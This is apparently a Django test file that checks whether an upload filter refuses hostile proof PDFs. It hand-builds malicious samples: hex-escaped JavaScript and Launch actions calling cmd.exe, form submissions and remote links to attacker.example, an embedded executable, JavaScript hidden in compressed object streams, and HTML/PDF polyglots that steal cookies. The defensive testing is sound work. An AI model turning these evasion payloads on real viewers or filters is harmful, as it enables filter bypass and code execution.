"""A proof PDF with scripts, actions, attached files, XFA forms or media is refused, whatever its spelling.

The audit's file was a link annotation whose action names were hex-escaped
(``/#4Aava#53cript``): a search of the raw bytes for ``/JavaScript`` does not find it,
the PDF parser reads it as JavaScript. The hostile files are written by hand here, byte
by byte, as an attacker would write them. A PDF that passes is stored as pypdf writes
it anew, so nothing the check did not read (HTML after the end, an older revision)
reaches a reviewer.
"""

import io
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter

from accounts.models import ProofDocument, VerificationRequest
from accounts.tests.test_proof import UPLOAD, applicant, plain_pdf, post, private_root  # noqa: F401 (fixtures)

pytestmark = pytest.mark.django_db

ACTIVE = "This PDF contains active content (scripts or actions). Please upload a plain PDF or a photo."
ATTACHED = "This PDF contains attached files. Please upload a plain PDF or a photo."


def build_pdf(catalog=b"", page=b"", extra=(), compressed=(), header=b"%PDF-1.7\n", pages=1):
    """A PDF written by hand: catalog 1, page tree 2, pages from 3, then ``extra`` objects.

    ``compressed`` objects follow ``extra`` and are stored in a zlib-compressed object
    stream (found through a cross-reference stream), where no byte of them is visible.
    """
    page_numbers = list(range(3, 3 + pages))
    kids = b" ".join(b"%d 0 R" % n for n in page_numbers)
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
    ]
    bodies += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>" for _ in page_numbers]
    bodies += list(extra)
    out, offsets = bytearray(header), {}
    for number, body in enumerate(bodies, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if not compressed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1) + b"".join(
            b"%010d 00000 n \n" % offsets[n] for n in offsets
        )
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
        return bytes(out)
    first_hidden = len(bodies) + 1
    stream_number, xref_number = first_hidden + len(compressed), first_hidden + len(compressed) + 1
    pairs, objects = b"", b""
    for index, body in enumerate(compressed):
        pairs += b"%d %d " % (first_hidden + index, len(objects))
        objects += body + b"\n"
    packed = zlib.compress(pairs + objects)
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stream_number,
        len(compressed),
        len(pairs),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n"
    offsets[xref_number] = len(out)
    rows = b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x02" + stream_number.to_bytes(4, "big") + (number - first_hidden).to_bytes(2, "big")
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def link(action):
    """A page whose one link annotation (object 4) runs ``action``."""
    return {
        "page": b"/Annots [4 0 R]",
        "extra": [b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + b" >>"],
    }


def stream(dictionary, data):
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


HOSTILE = {
    # The audit's file: names spelled with # escapes.
    "hex-escaped-javascript-link": (link(b"<< /S /#4Aava#53cript /#4AS (app.alert\\(1\\)) >>"), ACTIVE),
    "hex-escaped-launch-link": (link(b"<< /S /#4C#61unch /F (cmd.exe) >>"), ACTIVE),
    "launch-link": (link(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), ACTIVE),
    "javascript-uri-link": (link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"), ACTIVE),
    "submit-form-link": (link(b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>"), ACTIVE),
    "import-data-link": (link(b"<< /S /ImportData /F (data.fdf) >>"), ACTIVE),
    "reset-form-link": (link(b"<< /S /ResetForm >>"), ACTIVE),
    "remote-goto-link": (link(b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"), ACTIVE),
    "embedded-goto-link": (link(b"<< /S /GoToE /T << /R /C /N (a.pdf) >> >>"), ACTIVE),
    "named-action-link": (link(b"<< /S /Named /N /Print >>"), ACTIVE),
    "action-kind-behind-a-reference": (
        {
            "page": b"/Annots [4 0 R]",
            "extra": [b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 5 0 R /F (cmd.exe) >> >>", b"/Launch"],
        },
        ACTIVE,
    ),
    "chained-next-action": (link(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>"), ACTIVE),
    "open-action-javascript": ({"catalog": b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"}, ACTIVE),
    "open-action-web-call": ({"catalog": b"/OpenAction << /S /URI /URI (https://tracker.example/seen) >>"}, ACTIVE),
    "document-additional-actions": ({"catalog": b"/AA << /WC << /S /JavaScript /JS (x) >> >>"}, ACTIVE),
    "page-additional-actions": ({"page": b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"}, ACTIVE),
    "document-javascript-name-tree": (
        {"catalog": b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "extra": [b"<< /S /JavaScript /JS (x) >>"]},
        ACTIVE,
    ),
    "xfa-form": ({"catalog": b"/AcroForm << /Fields [] /XFA 4 0 R >>", "extra": [stream(b"", b"<xdp:xdp/>")]}, ACTIVE),
    "rich-media-annotation": (
        {
            "page": b"/Annots [4 0 R]",
            "extra": [b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>"],
        },
        ACTIVE,
    ),
    "screen-annotation": (
        {"page": b"/Annots [4 0 R]", "extra": [b"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>"]},
        ACTIVE,
    ),
    "form-field-script": (
        {
            "catalog": b"/AcroForm << /Fields [4 0 R] >>",
            "page": b"/Annots [4 0 R]",
            "extra": [
                b"<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] /AA << /K << /S /JavaScript /JS (x) >> >> >>"
            ],
        },
        ACTIVE,
    ),
    "embedded-file": (
        {
            "catalog": b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>",
            "extra": [
                b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
                stream(b"/Type /EmbeddedFile", b"MZ"),
            ],
        },
        ATTACHED,
    ),
    "file-attachment-annotation": (
        {
            "page": b"/Annots [4 0 R]",
            "extra": [
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) >> >>"
            ],
        },
        ATTACHED,
    ),
    # Compressed in an object stream: not one byte of the action is in the file as such.
    "javascript-in-an-object-stream": (
        {
            "page": b"/Annots [4 0 R]",
            "compressed": [b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (x) >> >>"],
        },
        ACTIVE,
    ),
}


def assert_refused(response, name, message):
    html = response.content.decode()
    assert response.status_code == 400
    assert message in html and name in html
    assert not VerificationRequest.objects.exists() and not ProofDocument.objects.exists()


def nothing_stored(private_root):
    return not private_root.exists() or not any(path.is_file() for path in private_root.rglob("*"))


@pytest.mark.parametrize("parts, message", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_pdf_with_active_content_or_attached_files_is_refused_and_nothing_is_stored(
    client, applicant, private_root, parts, message
):
    data = build_pdf(**parts)
    PdfReader(io.BytesIO(data))  # a well-formed PDF: refused for what it holds, not for being broken
    assert_refused(post(client, "licence.pdf", data), "licence.pdf", message)
    assert nothing_stored(private_root)


def test_the_messages_are_in_german_on_german_pages(client, applicant):
    data = build_pdf(**HOSTILE["hex-escaped-javascript-link"][0])
    response = client.post("/de/accounts/professional/proof/", {"documents": SimpleUploadedFile("licence.pdf", data)})
    assert response.status_code == 400
    assert "Dieses PDF enthält aktive Inhalte (Skripte oder Aktionen)" in response.content.decode()


def test_an_encrypted_pdf_is_refused(client, applicant):
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert_refused(
        post(client, "licence.pdf", buffer.getvalue()), "licence.pdf", "Password-protected PDF files cannot be reviewed"
    )


def test_a_pdf_that_cannot_be_parsed_is_refused_as_damaged(client, applicant):
    data = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 9 0 R >>\n%%EOF\n"
    assert_refused(post(client, "licence.pdf", data), "licence.pdf", "The PDF file is damaged or incomplete")


def test_a_pdf_with_too_many_pages_is_refused(client, applicant, settings):
    settings.MEDLEX_PROOF_PDF_MAX_PAGES = 3
    assert_refused(post(client, "licence.pdf", build_pdf(pages=4)), "licence.pdf", "The PDF has more than 3 pages")
    assert post(client, "licence.pdf", build_pdf(pages=3)).status_code == 302


def test_a_page_tree_that_lists_a_page_twice_is_refused(client, applicant):
    data = build_pdf(pages=2).replace(b"/Kids [3 0 R 4 0 R]", b"/Kids [3 0 R 3 0 R]")  # same length: offsets stay right
    assert_refused(post(client, "licence.pdf", data), "licence.pdf", "damaged or incomplete")


def test_an_html_page_that_carries_a_pdf_is_refused(client, applicant):
    polyglot = b"<html><body><script>alert(document.cookie)</script>\n" + build_pdf()
    assert polyglot.index(b"%PDF-") < 1024  # where readers that search for the header find it
    assert_refused(post(client, "licence.pdf", polyglot), "licence.pdf", "Only PDF, JPEG and PNG files are accepted")


def test_a_pdf_is_stored_as_written_anew_without_anything_the_check_did_not_read(client, applicant):
    html = b"<html><body><script>alert(document.cookie)</script></body></html>\n"
    data = build_pdf(header=b"%PDF-1.7\n%" + html) + html
    assert post(client, "licence.pdf", data).status_code == 302
    stored = ProofDocument.objects.get().path.read_bytes()
    assert stored.startswith(b"%PDF-") and b"<script" not in stored and b"<html" not in stored
    assert len(PdfReader(io.BytesIO(stored)).pages) == 1


def test_page_moves_and_plain_web_links_are_accepted(client, applicant):
    """Word and LaTeX write these; they move within the document or open a web page only when clicked."""
    data = build_pdf(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /Outlines 7 0 R",
        page=b"/Annots [4 0 R 6 0 R]",
        extra=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.aerztekammer-berlin.de/) >> >>",
            b"<< /Title (Licence) /Parent 7 0 R /A << /S /GoTo /D [3 0 R /XYZ 0 0 0] >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:office@example.org) >> >>",
            b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        ],
    )
    assert post(client, "licence.pdf", data).status_code == 302
    assert ProofDocument.objects.get().content_type == "application/pdf"


def test_a_plain_pdf_is_still_accepted(client, applicant):
    assert post(client, "licence.pdf", plain_pdf()).status_code == 302
    assert len(PdfReader(ProofDocument.objects.get().path).pages) == 1
